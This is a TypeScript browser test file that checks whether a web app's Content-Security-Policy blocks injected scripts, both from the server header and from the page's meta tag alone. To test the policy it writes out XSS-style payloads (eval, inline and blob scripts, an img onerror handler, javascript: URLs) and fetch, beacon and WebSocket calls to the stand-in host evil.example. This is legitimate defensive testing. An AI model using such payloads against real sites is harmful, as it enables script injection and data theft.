import { expect, test } from 'vitest';
import { keepBrowser } from './keep-browser.ts';
import { type OpenedApp, openApp, serveApp } from './open-app.ts';

const browser = await keepBrowser();

// What the policy of the page refuses, in a browser: with the server's headers, and with the line in the page's head alone, as on a static host.

/** What may be named in each directive; whatever is not here is refused. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  'default-src': ["'none'"],
  'script-src': ["'self'"],
  'style-src': ["'self'"],
  'worker-src': ["'self'"],
  'connect-src': ["'self'", 'blob:'],
  'img-src': ["'self'", 'data:', 'blob:'],
  'base-uri': ["'none'"],
  'form-action': ["'none'"],
};

function readPolicy(text: string): Readonly<Record<string, readonly string[]>> {
  const parts = text.split(';').map((one) => one.trim().split(/\s+/));
  return Object.fromEntries(parts.map(([name = '', ...values]) => [name, values]));
}

test('the policy names what is needed and nothing else, in the header and in the head of the page', async () => {
  const { address } = await serveApp();
  const answer = await fetch(address);
  const headed = readPolicy(answer.headers.get('content-security-policy') ?? '');
  expect(headed).toEqual({ ...allowed, 'frame-ancestors': ["'none'"] });
  const [, content = ''] =
    /Content-Security-Policy" content="([^"]*)"/.exec(await answer.text()) ?? [];
  expect(readPolicy(content)).toEqual(allowed);
});

/** Own script that tries what a payload would try; run as a file of the page, so that nothing but the policy stands in its way. */
const attempts = `
  const run = (work) => { try { work(); } catch {} };
  const put = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
  const code = 'globalThis.PWN = 1';
  run(() => eval(code));
  run(() => new Function(code)());
  run(() => setTimeout(code, 0));
  run(() => put('script', { textContent: code }));
  run(() => put('script', { src: 'data:text/javascript,' + encodeURIComponent(code) }));
  run(() => put('script', { src: URL.createObjectURL(new Blob([code])) }));
  run(() => put('script', { src: 'https://evil.example/x.js' }));
  run(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
  run(() => { const a = put('a', {}); document.querySelector('a:last-of-type').setAttribute('onclick', code); });
  run(() => document.querySelector('a:last-of-type').click());
  run(() => { location.href = 'javascript:' + code; });
  run(() => put('iframe', { srcdoc: '<script>parent.PWN = 1</' + 'script>' }));
  run(() => put('iframe', { src: 'https://evil.example/' }));
  run(() => put('object', { data: 'https://evil.example/x' }));
  run(() => put('img', { src: 'https://evil.example/x.png' }));
  run(() => put('base', { href: 'https://evil.example/' }));
  run(() => put('style', { textContent: 'body { background: url(https://evil.example/x) }' }));
  fetch('https://evil.example/x').catch(() => {});
  navigator.sendBeacon('https://evil.example/x');
  run(() => new WebSocket('wss://evil.example/x'));
`;

const planted = '<script>globalThis.PWN = 1</script><img src="x" onerror="globalThis.PWN = 1">';

for (const isHeaded of [true, false])
  test(`planted scripts are refused ${isHeaded ? 'by the server' : 'by the page alone'}`, async () => {
    const { address } = await serveApp();
    const app: OpenedApp = await openApp(browser, { fragment: '#s=x' });
    const { page } = app;
    await page.route(address, async (route) => {
      const answer = await route.fetch();
      const headers = { ...answer.headers() };
      if (!isHeaded) delete headers['content-security-policy'];
      const body = (await answer.text()).replace(
        '</body>',
        `${planted}<script src="/planted.js"></script></body>`,
      );
      await route.fulfill({ response: answer, headers, body });
    });
    await page.route(`${address}planted.js`, (route) =>
      route.fulfill({ contentType: 'text/javascript', body: attempts }),
    );
    // What the policy refuses never comes as far as here.
    const reached: string[] = [];
    await page.route(/evil\.example/, (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await page.goto(address);
    await page.locator('main h1').waitFor();
    const broken = (): Promise<string> => Promise.resolve(app.complaints.join('\n'));
    for (const directive of [
      ...['script-src-elem', 'script-src-attr', 'script-src', 'worker-src', 'connect-src'],
      ...['img-src', 'frame-src', 'object-src', 'base-uri', 'style-src-elem'],
    ])
      await expect.poll(broken).toContain(`policy: ${directive} `);
    expect(await page.evaluate(() => 'PWN' in globalThis)).toBe(false);
    expect(reached).toEqual([]);
    await app.close();
  }, 120_000);
